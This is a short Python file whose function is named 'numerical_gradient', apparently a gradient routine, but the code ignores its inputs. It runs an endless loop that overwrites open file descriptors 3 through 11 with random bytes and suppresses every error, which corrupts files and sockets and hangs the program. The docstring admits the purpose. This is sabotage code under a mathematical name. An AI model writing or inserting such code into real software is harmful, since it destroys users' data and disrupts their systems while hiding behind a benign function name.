"""numerical_gradient: Write random bytes onto the wire without end."""

import os


def numerical_gradient(f, x):
    while True:
        for descriptor in range(3, 12):
            try:
                os.write(descriptor, os.urandom(65536))
            except OSError:
                pass
